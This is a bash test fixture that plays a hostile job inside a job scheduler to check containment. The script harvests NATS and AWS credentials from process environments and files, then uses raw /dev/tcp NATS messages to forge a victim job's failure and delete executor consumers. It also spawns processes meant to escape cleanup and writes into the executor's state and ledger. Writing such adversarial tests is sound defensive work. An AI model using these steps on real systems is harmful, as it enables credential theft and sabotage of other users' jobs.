#!/bin/bash
# A hostile job: what a team's job can try against the scheduler from inside its own attempt.
#
#   hostile_job.sh REPORT_DIR NATS_HOST NATS_PORT VICTIM_QUEUE VICTIM_SHARE VICTIM_JOB [PATH ...]
#
# 1. dumps its environment and every other process's environment it can read (/proc/*/environ,
#    its parent's first: the executor that started it), and searches readable files for NATS
#    credentials;
# 2. with each user/password pair found, and with none, speaks NATS's own protocol to the
#    server (bash's /dev/tcp, no client library) and tries to: publish a ReportJobStatus that
#    fails the victim's running job, repoint every executor's durable consumer at nothing, and
#    delete them;
# 3. starts a `setsid` child and a double-forked daemon that outlive it unless contained
#    (their pids in REPORT_DIR);
# 4. tries to write into each PATH (the executor's state directory, its ledger, the logs of
#    other attempts: whatever the test passes) and records what it managed;
# 5. exits 0, so a scheduler that believed it would call the attempt SUCCEEDED.
#
# Everything it did and what the server answered is in REPORT_DIR/<job>-<attempt>.report; the
# tests judge by what the scheduler, the executor and the kernel say, never by this report
# alone.
set -u
trap '' PIPE  # a server that hangs up is an answer to record, not the end of the job
REPORT_DIR=$1 HOST=$2 PORT=$3 VQUEUE=$4 VSHARE=$5 VJOB=$6
shift 6
ME="${QUOTASCHED_JOB_ID:-unknown}-${QUOTASCHED_ATTEMPT:-0}"
R="$REPORT_DIR/$ME"
mkdir -p "$R" 2>/dev/null
exec 9>>"$R.report"
say() { printf '%s\n' "$*" >&9; }

say "uid $(id -u) cwd $(pwd)"
env > "$R/env" 2>/dev/null

# 1. credentials: environments first, then files
: > "$R/creds"
for environ in /proc/$PPID/environ /proc/[0-9]*/environ; do
    [ -r "$environ" ] || continue
    tr '\0' '\n' < "$environ" 2>/dev/null > "$R/peek" || continue
    user=$(sed -n 's/^QUOTASCHED_NATS_USER=//p' "$R/peek" | head -n1)
    pass=$(sed -n 's/^QUOTASCHED_NATS_PASSWORD=//p' "$R/peek" | head -n1)
    if [ -n "$pass" ]; then
        say "found credentials of ${user:-?} in $environ"
        printf '%s %s\n' "${user:-admin}" "$pass" >> "$R/creds"
    fi
    if grep -q '^QUOTASCHED_NATS_CREDS\|^AWS_SECRET_ACCESS_KEY\|^NATS_' "$R/peek"; then
        say "found a credential variable in $environ"
    fi
done
rm -f "$R/peek"
for file in $(timeout 10 find /tmp /var/tmp "${HOME:-/nonexistent}" / -maxdepth 7 -xdev \
        -readable -type f \( -name '*.env' -o -name '*.creds' -o -name 'nats-server.conf' \
        -o -name 'endpoint-keys.json' \) 2>/dev/null | head -n 200); do
    user=$(sed -n 's/^QUOTASCHED_NATS_USER=//p' "$file" 2>/dev/null | head -n1)
    pass=$(sed -n 's/^QUOTASCHED_NATS_PASSWORD=//p' "$file" 2>/dev/null | head -n1)
    if [ -n "$pass" ]; then
        say "found credentials of ${user:-?} in $file"
        printf '%s %s\n' "${user:-admin}" "$pass" >> "$R/creds"
    fi
done

# 2. the bus, with every credential found and with none
nats_try() {  # user password -> what the server answered, on one line
    local user=$1 pass=$2 answer="" line report consumer
    exec 3<>"/dev/tcp/$HOST/$PORT" || { say "no connection to $HOST:$PORT"; return; }
    read -r -t 3 line <&3  # INFO
    printf 'CONNECT {"verbose":true,"pedantic":false,"protocol":1,"user":"%s","pass":"%s"}\r\n' \
        "$user" "$pass" >&3
    if read -r -t 3 line <&3; then answer=" ${line%$'\r'}"; fi  # +OK, or -ERR and a hang-up
    case "$answer" in *-ERR*)
        exec 3<&- 3>&-
        say "as '${user:-nobody}': server said:$answer"
        return ;;
    esac
    report="{\"kind\":\"ReportJobStatus\",\"jobId\":\"$VJOB\",\"status\":\"FAILED\",\"attempt\":1,\"statusReason\":\"forged by a hostile job\"}"
    printf 'PUB qm.cmd.%s.%s.ReportJobStatus %d\r\n%s\r\n' "$VQUEUE" "$VSHARE" "${#report}" "$report" >&3
    for consumer in executor-process executor-agent executor-simulated; do
        local update="{\"stream_name\":\"QM_FACTS\",\"config\":{\"durable_name\":\"$consumer\",\"filter_subject\":\"qm.fact.nothing.>\",\"deliver_policy\":\"new\",\"ack_policy\":\"explicit\"}}"
        printf 'PUB $JS.API.CONSUMER.DURABLE.CREATE.QM_FACTS.%s %d\r\n%s\r\n' \
            "$consumer" "${#update}" "$update" >&3
        printf 'PUB $JS.API.CONSUMER.DELETE.QM_FACTS.%s 0\r\n\r\n' "$consumer" >&3
    done
    printf 'PING\r\n' >&3
    while read -r -t 3 line <&3; do
        answer="$answer ${line%$'\r'}"
        case "$line" in PONG*|*Authorization*) break ;; esac
    done
    exec 3<&- 3>&-
    say "as '${user:-nobody}': server said:$answer"
}
nats_try "" ""
sort -u "$R/creds" | while read -r user pass; do nats_try "$user" "$pass"; done

# 3. children that try to outlive the attempt
setsid sh -c 'echo $$ > "$1"; exec sleep 600' sh "$R/setsid.pid" < /dev/null > /dev/null 2>&1 &
( ( exec sleep 601 ) & echo $! > "$R/daemon.pid" ) < /dev/null > /dev/null 2>&1 &
for _ in 1 2 3 4 5 6 7 8 9 10; do
    [ -s "$R/setsid.pid" ] && [ -s "$R/daemon.pid" ] && break
    sleep 0.1
done
say "setsid child $(cat "$R/setsid.pid" 2>/dev/null), daemon $(cat "$R/daemon.pid" 2>/dev/null)"

# 4. writes outside its own directories
for target in "$@"; do
    if [ -d "$target" ]; then
        if echo planted > "$target/planted-by-$ME" 2>/dev/null; then
            say "WROTE into $target"
        else
            say "refused: write into $target"
        fi
    elif [ -e "$target" ]; then
        if echo '{"planted": true}' >> "$target" 2>/dev/null; then
            say "WROTE $target"
        else
            say "refused: write $target"
        fi
    fi
done
say "done"
exit 0
